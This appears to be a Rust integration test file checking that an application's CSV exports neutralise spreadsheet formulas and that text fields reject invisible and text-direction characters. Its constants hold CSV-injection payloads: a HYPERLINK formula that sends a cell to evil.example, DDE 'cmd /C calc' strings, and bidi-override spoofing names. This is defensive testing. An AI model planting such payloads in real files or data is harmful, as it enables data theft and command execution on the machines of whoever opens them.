//! Hold under abuse: every CSV file Consentry writes is safe to open in a spreadsheet (formula
//! cells neutralised, a byte-order mark, the separator the user chose), and display text with
//! invisible characters is refused at the door, naming the field.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::{
    consent::hand_over,
    export::{unzip, verified_access_request},
    fields::add_field,
    helpers::{TestApp, error_body, new_client, send_as, spawn_app},
    imports::{finished, upload},
};

const BOM: &str = "\u{FEFF}";
/// What makes a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A subject whose every text starts a formula. Tab and carriage return cannot start a value
/// that reaches a CSV file: every text is trimmed when entered (the unit tests of
/// `domain::csv_out` cover them).
const FIRST: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")";
const LAST: &str = "-2+3+cmd|' /C calc'!A0";
const EMAIL: &str = "=cmd@example.nl";
const PHONE: &str = "+31 20 123 4567";
const COMPANY: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const USER_AGENT: &str = "=1+1 evil/1.0";

/// The rows of a CSV file after checking that it starts with the byte-order mark and that no
/// cell starts a formula.
fn safe_rows(name: &str, text: &str, separator: u8) -> Vec<Vec<String>> {
    let body = text
        .strip_prefix(BOM)
        .unwrap_or_else(|| panic!("{name} starts with a UTF-8 byte-order mark"));
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("parses").iter().map(str::to_owned).collect())
        .collect();
    assert!(rows.len() > 1, "{name} has rows: {text}");
    for row in &rows {
        assert_eq!(row.len(), rows[0].len(), "{name}: one cell per column");
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "{name}: {cell:?} would run as a formula"
            );
        }
    }
    rows
}

/// The cell of `column` in every data row.
fn column(rows: &[Vec<String>], column: &str) -> Vec<String> {
    let i = rows[0]
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

async fn text(app: &TestApp, path: &str) -> String {
    let response = app.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    response.text().await.expect("body")
}

/// A published form and a record of the subject on basis Consent; returns (form, record).
async fn subject_with_formulas(app: &TestApp) -> (String, String) {
    let (form, _) = crate::consent::form_and_record(app, None).await;
    let leads = app.module_id("leads").await;
    let created = app
        .post(
            "/api/v1/records",
            &json!({"module_id": leads, "basis": {"basis": "consent"},
                    "fields": {"first_name": FIRST, "last_name": LAST, "email": EMAIL,
                               "phone": PHONE, "company": COMPANY}}),
        )
        .await;
    assert_eq!(
        created.status(),
        StatusCode::CREATED,
        "{:?}",
        created.text().await
    );
    let record: Value = created.json().await.expect("json");
    (form, record["id"].as_str().expect("id").to_owned())
}

#[tokio::test]
async fn formula_cells_are_neutralised_in_every_csv_and_every_csv_starts_with_a_bom() {
    let app = spawn_app().await;
    app.set_up().await;
    let (form, record) = subject_with_formulas(&app).await;
    // A consent decision sent by a browser whose User-Agent starts a formula.
    let sent: Value = app
        .post(
            &format!("/api/v1/records/{record}/consent-requests"),
            &json!({"form_id": form}),
        )
        .await
        .json()
        .await
        .expect("json");
    let token = hand_over(&app, sent["message_id"].as_str().expect("message id")).await;
    let answered = new_client()
        .post(app.url(&format!("/api/public/consent/{token}")))
        .header("x-requested-with", "consentry")
        .header("user-agent", USER_AGENT)
        .json(&json!({"lang": "en", "decision": "save",
                      "choices": {"granted": ["service"], "channels": ["email"]}}))
        .send()
        .await
        .expect("request");
    assert_eq!(answered.status(), StatusCode::OK);

    // The staff export, with either separator.
    for (separator, byte) in [("comma", b','), ("semicolon", b';')] {
        let exported = text(
            &app,
            &format!("/api/v1/records/export?format=csv&separator={separator}"),
        )
        .await;
        let rows = safe_rows("the staff export", &exported, byte);
        let row = rows[1..]
            .iter()
            .position(|r| r[0] == record)
            .map(|i| &rows[i + 1])
            .expect("the record");
        let cell = |name: &str| {
            let i = rows[0].iter().position(|h| h == name).expect("column");
            row[i].clone()
        };
        assert_eq!(cell("first_name"), format!("'{FIRST}"));
        // OWASP to the letter: a leading minus or plus is quoted even where it reads as a
        // number or a phone number.
        assert_eq!(cell("last_name"), format!("'{LAST}"));
        assert_eq!(cell("email"), format!("'{EMAIL}"));
        assert_eq!(cell("phone"), format!("'{PHONE}"));
        assert_eq!(cell("company"), format!("'{COMPANY}"));
    }

    // The subject's export: records.csv and consent_events.csv in the ZIP.
    let request = verified_access_request(&app, EMAIL).await;
    let review = app.get(&format!("/api/v1/requests/{request}/export")).await;
    assert_eq!(review.status(), StatusCode::OK);
    let files = unzip(&review.bytes().await.expect("bytes"));
    let records = safe_rows("records.csv", &files["records.csv"], b',');
    assert_eq!(column(&records, "first_name"), [format!("'{FIRST}")]);
    assert_eq!(column(&records, "company"), [format!("'{COMPANY}")]);
    let events = safe_rows("consent_events.csv", &files["consent_events.csv"], b',');
    assert_eq!(column(&events, "user_agent"), [format!("'{USER_AGENT}")]);
    assert!(files["README.txt"].contains("spreadsheet shows it as text"));
}

#[tokio::test]
async fn the_separator_chosen_on_an_export_is_remembered_for_that_user_only() {
    let app = spawn_app().await;
    app.set_up().await;
    subject_with_formulas(&app).await;
    let staff = app.user_client("sam@acme.example", "standard").await;
    let header = |text: &str| text.lines().next().unwrap_or_default().to_owned();

    assert_eq!(
        app.get("/api/v1/records/export/preferences")
            .await
            .json::<Value>()
            .await
            .expect("json"),
        json!({"csv_separator": "comma"})
    );
    let first = text(&app, "/api/v1/records/export").await;
    assert!(header(&first).starts_with("\u{FEFF}\"record_id\",\"module_id\","));
    let chosen = text(&app, "/api/v1/records/export?separator=semicolon").await;
    assert!(header(&chosen).starts_with("\u{FEFF}\"record_id\";\"module_id\";"));
    // The next export without a choice uses the remembered one, and the dialog offers it.
    let again = text(&app, "/api/v1/records/export?format=csv").await;
    assert_eq!(header(&again), header(&chosen));
    assert_eq!(
        app.get("/api/v1/records/export/preferences")
            .await
            .json::<Value>()
            .await
            .expect("json")["csv_separator"],
        "semicolon"
    );
    // Another user's exports are not touched.
    let theirs = staff
        .get(app.url("/api/v1/records/export"))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("csv");
    assert_eq!(header(&theirs), header(&first));

    // Under pressure: exports asking for either separator at once each get the one asked
    // for, and the preference ends as one of them.
    let asked: Vec<&str> = (0..12)
        .map(|i| if i % 2 == 0 { "comma" } else { "semicolon" })
        .collect();
    let mut exports = tokio::task::JoinSet::new();
    for separator in asked {
        let request = app
            .client
            .get(app.url(&format!("/api/v1/records/export?separator={separator}")));
        exports.spawn(async move {
            let response = request.send().await.expect("request");
            (
                separator,
                response.status(),
                response.text().await.expect("csv"),
            )
        });
    }
    for (separator, status, file) in exports.join_all().await {
        assert_eq!(status, StatusCode::OK);
        let line = header(&file);
        let expected = if separator == "comma" { ',' } else { ';' };
        assert_eq!(line.chars().nth(12), Some(expected), "{separator}: {line}");
    }
    let last: Value = app
        .get("/api/v1/records/export/preferences")
        .await
        .json()
        .await
        .expect("json");
    assert!(["comma", "semicolon"].contains(&last["csv_separator"].as_str().unwrap_or("?")));

    let bad = app.get("/api/v1/records/export?separator=tab").await;
    assert_eq!(
        error_body(bad, StatusCode::BAD_REQUEST).await["field"],
        "separator"
    );
}

#[tokio::test]
async fn an_export_in_semicolons_with_its_byte_order_mark_imports_again_as_it_was() {
    let app = spawn_app().await;
    app.set_up().await;
    let leads = app.with_compliance("leads").await;
    let contacts = app.module_id("contacts").await;
    // Custom fields of several kinds in both modules, one holding a value that starts with
    // the quote an export puts before formulas.
    for module in [&leads, &contacts] {
        for field in [
            json!({"label": "Note", "kind": "text"}),
            json!({"label": "Score", "kind": "number"}),
            json!({"label": "Member", "kind": "boolean"}),
        ] {
            add_field(&app, module, field).await;
        }
    }
    let custom = json!({"note": "'-5 as typed", "score": -5, "member": true});
    let created = app
        .post(
            "/api/v1/records",
            &json!({"module_id": leads, "basis": {"basis": "consent"},
                    "fields": {"first_name": FIRST, "last_name": LAST, "email": EMAIL,
                               "phone": PHONE, "company": COMPANY, "custom": custom}}),
        )
        .await;
    assert_eq!(
        created.status(),
        StatusCode::CREATED,
        "{:?}",
        created.text().await
    );
    let exported = app
        .get(&format!(
            "/api/v1/records/export?module={leads}&separator=semicolon&q=%3Dcmd%40example.nl"
        ))
        .await
        .bytes()
        .await
        .expect("csv");
    assert!(exported.starts_with(BOM.as_bytes()));
    let started = upload(&app, &contacts, "file_name=export.csv", exported.to_vec()).await;
    assert_eq!(
        started.status(),
        StatusCode::ACCEPTED,
        "{:?}",
        started.text().await
    );
    let job: Value = started.json().await.expect("json");
    let done = finished(&app, job["id"].as_str().expect("id")).await;
    assert_eq!(done["imported"], 1, "{done}");
    let page: Value = app
        .get(&format!("/api/v1/records?module={contacts}"))
        .await
        .json()
        .await
        .expect("json");
    let fields = &page["records"][0]["fields"];
    assert_eq!(fields["first_name"], FIRST);
    assert_eq!(fields["last_name"], LAST);
    assert_eq!(fields["email"], EMAIL);
    assert_eq!(fields["company"], COMPANY);
    assert_eq!(
        fields["custom"], custom,
        "every custom value came back as it was"
    );
}

#[tokio::test]
async fn invisible_characters_are_refused_naming_the_field_wherever_text_is_entered() {
    let app = spawn_app().await;
    app.set_up().await;
    let leads = app.module_id("leads").await;
    let refused = |response: reqwest::Response, field: &'static str, code_point: &'static str| async move {
        let body = error_body(response, StatusCode::BAD_REQUEST).await;
        assert_eq!(body["field"], field, "{body}");
        let message = body["message"].as_str().unwrap_or_default();
        assert!(message.contains(code_point), "{body}");
    };
    // Text-direction override, isolate, zero-width space, byte-order mark, line and paragraph
    // separators, a tag character.
    for (name, code_point) in [
        ("Jan\u{202E}nesnaJ", "U+202E"),
        ("\u{2066}Jan\u{2069}", "U+2066"),
        ("Ja\u{200B}n", "U+200B"),
        ("Jan\u{FEFF}", "U+FEFF"),
        ("Jan\u{2028}Jansen", "U+2028"),
        ("Jan\u{2029}Jansen", "U+2029"),
        ("Jan\u{E0041}", "U+E0041"),
    ] {
        let created = app
            .post(
                "/api/v1/records",
                &json!({"module_id": leads, "fields": {"first_name": name, "last_name": "X"}}),
            )
            .await;
        refused(created, "fields.first_name", code_point).await;
    }
    // Names that look empty or put a mark on what the page shows before them.
    for (name, code_point) in [
        ("\u{2800}", None),
        ("\u{3000}\u{2800}", None),
        ("\u{0301}Jan", Some("U+0301")),
        ("Jan \u{20DD}", Some("U+20DD")),
    ] {
        let created = app
            .post(
                "/api/v1/records",
                &json!({"module_id": leads, "fields": {"first_name": "Jan", "last_name": name}}),
            )
            .await;
        let body = error_body(created, StatusCode::BAD_REQUEST).await;
        assert_eq!(body["field"], "fields.last_name", "{body}");
        if let Some(code_point) = code_point {
            let message = body["message"].as_str().unwrap_or_default();
            assert!(message.contains(code_point), "{body}");
        }
    }
    // Names of every script are welcome.
    let mut ids = Vec::new();
    for (first, last) in [
        ("Zoë", "Øyvind"),
        ("Seán", "O'Brien"),
        ("秀英", "王"),
        ("Anne-Marie", "حسین\u{200C}زاده"),
    ] {
        let created = app
            .post(
                "/api/v1/records",
                &json!({"module_id": leads, "fields": {"first_name": first, "last_name": last}}),
            )
            .await;
        assert_eq!(created.status(), StatusCode::CREATED, "{first} {last}");
        let record: Value = created.json().await.expect("json");
        assert_eq!(record["fields"]["last_name"], last);
        ids.push(record["id"].as_str().expect("id").to_owned());
    }
    let updated = app
        .send(
            Method::PUT,
            &format!("/api/v1/records/{}", ids[0]),
            &json!({"first_name": "Zoë", "last_name": "Øy\u{200D}vind"}),
        )
        .await;
    let body = error_body(updated, StatusCode::BAD_REQUEST).await;
    assert!(
        body["field"]
            .as_str()
            .is_some_and(|f| f.ends_with("last_name")),
        "{body}"
    );
    assert!(
        body["message"]
            .as_str()
            .unwrap_or_default()
            .contains("U+200D")
    );

    // A user's name, an e-mail address with `<` or `,` in it.
    let user = app
        .post(
            "/api/v1/users",
            &json!({"name": "Sam\u{202E}ffatS", "email": "sam@acme.example",
                    "profile": "standard", "password": "another long password"}),
        )
        .await;
    refused(user, "name", "U+202E").await;
    for address in ["a<b@example.nl", "a,b@example.nl", "\"a b\"@example.nl"] {
        let bad = app
            .post(
                "/api/v1/records",
                &json!({"module_id": leads, "fields": {"last_name": "X", "email": address}}),
            )
            .await;
        assert_eq!(
            error_body(bad, StatusCode::BAD_REQUEST).await["field"],
            "fields.email",
            "{address}"
        );
    }
    let international = app
        .post(
            "/api/v1/records",
            &json!({"module_id": leads, "fields": {"last_name": "Müller",
                    "email": "jörg@müller.de"}}),
        )
        .await;
    assert_eq!(international.status(), StatusCode::CREATED);

    // A request filed in the privacy centre.
    let asked = send_as(
        &new_client(),
        Method::POST,
        &app.url("/api/public/privacy/acme"),
        &json!({"kind": "rectification", "email": "jan@example.nl", "lang": "en",
                "details": "My name is\u{2067} wrong"}),
    )
    .await;
    refused(asked, "details", "U+2067").await;

    // A row of an import: refused, with the row and the reason in the report.
    let started = upload(
        &app,
        &leads,
        "file_name=rows.csv",
        "Voornaam;Achternaam\nJan;Jansen\nPiet;Pie\u{200B}tersen\n".into(),
    )
    .await;
    assert_eq!(started.status(), StatusCode::ACCEPTED);
    let job: Value = started.json().await.expect("json");
    let done = finished(&app, job["id"].as_str().expect("id")).await;
    assert_eq!(done["imported"], 1, "{done}");
    assert_eq!(done["error_count"], 1, "{done}");
    assert!(done.to_string().contains("U+200B"), "{done}");
}
